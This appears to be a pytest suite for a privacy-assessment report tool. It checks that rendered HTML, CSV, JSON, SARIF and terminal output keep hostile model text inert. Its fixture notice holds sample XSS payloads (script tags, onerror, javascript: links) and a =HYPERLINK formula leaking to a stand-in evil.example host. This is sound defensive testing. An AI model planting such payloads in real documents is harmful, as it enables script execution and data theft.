"""Every report, rendered by the real commands and opened in headless Chromium (Debian's package):
nothing leaves the page, nothing errs, nothing from a model runs, the table of contents works, the
pictures show, and hostile text from a model shows as text (escaped, not dropped).

The outputs are rendered once per test session (:func:`rendered`) and shared with
tests/test_no_leaks.py; screenshots go to screenshots/ (git-ignored)."""
from __future__ import annotations

import functools
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from tests import browser

ROOT = Path(__file__).resolve().parent.parent
PIA = [sys.executable, "-m", "pia.cli"]
CC = ROOT / "data" / "cloud_connectors.yaml"
HOSTILE = ROOT / "tests" / "fixtures" / "hostile" / "hostile.yaml"
POLICY = ROOT.parent / "shared" / "seeds" / "cloud_connectors_privacy_policy.txt"
#: An environment variable whose value must never reach a report (tests/test_no_leaks.py).
CANARY = "PIA_CANARY_SECRET"
CANARY_VALUE = "canary-7f3a9c1e-do-not-leak"

#: A notice of our own with hostile HTML in its statements.
HOSTILE_NOTICE = """# <script>window.__pwned=1</script> privacy notice

## What we collect <img src=x onerror="window.__pwned=1">

When you create an account we collect your name and email address <b onmouseover="window.__pwned=1">here</b>.

## Who receives it

We share your email address with <script>window.__pwned=1</script> to send our newsletter.
We share your IP address with [click me](javascript:window.__pwned=1) for analytics.

## Contact

Write to =HYPERLINK("http://evil.example/?leak","x") or \u202eevil\u202c.
"""

#: Strings of hostile.yaml (and the notice) that must show in the pages as text.
SHOWN = ["window.__pwned=1", "<script>", "<img src=x onerror=", "javascript:window.__pwned=1",
         "<iframe src='https://evil.example'></iframe>", "{{ 7*7 }}"]


@functools.lru_cache(maxsize=None)
def rendered() -> Path:
    """Render every report once into a fresh temporary folder; return the folder.

    Layout: cc/ and hostile/ (pia assess), batch/ (pia batch over both), change/ (pia diff of
    hostile.yaml and a version without flow f4), nc-cc/ (notice check of Cloud Connectors against
    its policy, when present) and nc-hostile/ (the hostile model against a hostile notice)."""
    out = Path(tempfile.mkdtemp(prefix="pia-hardening-"))
    inputs = out / "in"
    inputs.mkdir()
    old = inputs / "hostile-old.yaml"
    text = HOSTILE.read_text(encoding="utf-8")
    old.write_text(text.replace("  - {id: f4, from: kids, to: app, activity: act}\n", ""), encoding="utf-8")
    notice = inputs / "hostile-notice.md"
    notice.write_text(HOSTILE_NOTICE, encoding="utf-8")
    date = ["--date", "2026-01-01"]
    jobs = [
        ["assess", str(CC), "-o", str(out / "cc"), *date],
        ["assess", str(HOSTILE), "-o", str(out / "hostile"), *date],
        ["batch", str(CC), str(HOSTILE), "-o", str(out / "batch"), "-j", "2", *date],
        ["diff", str(old), str(HOSTILE), "-o", str(out / "change")],
        ["notice-check", str(HOSTILE), "--policy", str(notice), "-o", str(out / "nc-hostile")],
    ]
    if POLICY.exists():
        jobs.append(["notice-check", str(CC), "--policy", str(POLICY), "-o", str(out / "nc-cc")])
    env = dict(os.environ, **{CANARY: CANARY_VALUE})
    procs = [(job, subprocess.Popen(PIA + job, cwd=out, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                    text=True)) for job in jobs]
    for i, (job, p) in enumerate(procs):
        stdout, stderr = p.communicate(timeout=900)
        (out / "in" / f"{i}-{job[0]}.log").write_text(stdout + stderr, encoding="utf-8")
        ok = {0} if job[0] not in ("diff",) else {0, 1}
        assert p.returncode in ok, (job, p.returncode, stderr)
    return out


def pages() -> list[tuple[str, str]]:
    items = [("cc", "pia.html"), ("cc", "disclosure-map.html"), ("hostile", "pia.html"),
             ("hostile", "disclosure-map.html"), ("batch", "index.html"), ("change", "change.html"),
             ("nc-hostile", "notice-check.html")]
    if POLICY.exists():
        items.append(("nc-cc", "notice-check.html"))
    return items


playwright = pytest.importorskip("playwright.sync_api")


@pytest.fixture(scope="module")
def reports(chromium):
    out = rendered()
    return {(d, f): browser.inspect(chromium, out / d / f, f"{d}-{Path(f).stem}") for d, f in pages()}


@pytest.mark.parametrize("folder,page", pages())
def test_page_is_safe_and_works(reports, folder, page):
    r = reports[(folder, page)]
    assert r.requests == [], "requests left the page"
    assert r.console_errors == []
    assert r.dialogs == []
    assert not r.pwned, "model content ran in the browser"
    assert r.broken_links == []
    if page != "index.html" or folder == "batch":
        assert r.toc_links > 0, "no table of contents"
    if page in ("pia.html", "disclosure-map.html"):
        assert r.pictures > 0, "no pictures"
    assert r.invisible_pictures == []
    assert r.screenshot and r.screenshot.stat().st_size > 10_000


@pytest.mark.parametrize("folder,page", [p for p in pages() if p[0] in ("hostile", "change", "nc-hostile")])
def test_hostile_text_shows_as_text(reports, folder, page):
    text = reports[(folder, page)].text
    shown = [s for s in SHOWN if s in text]
    assert "window.__pwned=1" in text and "<script>" in text, f"hostile text dropped: only {shown}"


def test_batch_index_names_both_reports(reports):
    text = reports[("batch", "index.html")].text
    assert "window.__pwned=1" in text  # the hostile title, as text
    assert "Cloud Connectors" in text


def test_batch_reports_are_safe(chromium):
    out = rendered() / "batch"
    summary = json.loads((out / "batch-summary.json").read_text())
    assert summary["counts"]["rendered"] == 2
    for name in ("hostile/pia.html", "hostile/disclosure-map.html"):
        r = browser.inspect(chromium, out / name, "batch-" + name.replace("/", "-").removesuffix(".html"))
        assert not r.pwned and r.requests == [] and r.console_errors == [] and r.dialogs == []
        assert "window.__pwned=1" in r.text


# --- hostile text outside the browser: data files, SARIF, terminal ------------------------------

_RAW_CONTROL = __import__("re").compile(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("name", ["hostile/ropa.csv", "hostile/disclosures.csv", "batch/hostile/ropa.csv",
                                  "batch/hostile/disclosures.csv"])
def test_spreadsheet_cells_are_not_formulas(name):
    import csv

    rows = list(csv.reader((rendered() / name).open(encoding="utf-8-sig")))
    cells = [c for r in rows[1:] for c in r if c]
    assert cells and not [c for c in cells if c[0] in "=+-@"]


@pytest.mark.parametrize("name", ["hostile/findings.json", "change/change.json", "nc-hostile/notice-check.json",
                                  "batch/batch-summary.json"])
def test_json_keeps_hostile_text_as_data(name):
    text = (rendered() / name).read_text(encoding="utf-8")
    data = json.loads(text)  # valid JSON
    assert "window.__pwned=1" in json.dumps(data, ensure_ascii=False)
    assert "\x07" not in text and "\x01" not in text  # control characters escaped by JSON itself


def test_terminal_output_is_neutralised():
    import subprocess as sp

    p = sp.run(PIA + ["check", str(HOSTILE)], capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr
    assert "<script>window.__pwned=1" in p.stdout  # shown, as text
    assert not _RAW_CONTROL.search(p.stdout), _RAW_CONTROL.findall(p.stdout)
    assert "\\x07" in p.stdout  # the bell character, shown escaped


def test_sarif_is_valid_with_hostile_text():
    import subprocess as sp

    p = sp.run(PIA + ["check", "--format", "sarif", str(HOSTILE)], capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr
    sarif = json.loads(p.stdout)
    results = sarif["runs"][0]["results"]
    assert results and all(r["message"]["text"] for r in results)
    assert "window.__pwned=1" in p.stdout


def test_error_messages_are_neutralised(tmp_path):
    import subprocess as sp

    bad = tmp_path / "bad.yaml"
    bad.write_text('assessment: {id: x, title: T}\nparties:\n  - {id: p, name: P, country: "X\\u202eX\\u001b[2J\\u0007"}\n',
                   encoding="utf-8")
    p = sp.run(PIA + ["validate", str(bad)], capture_output=True, text=True, timeout=60)
    assert p.returncode == 2
    assert "parties[0].country: unknown country code 'X\\u202eX\\x1b[2J\\x07'" in p.stderr
    assert not _RAW_CONTROL.search(p.stderr)
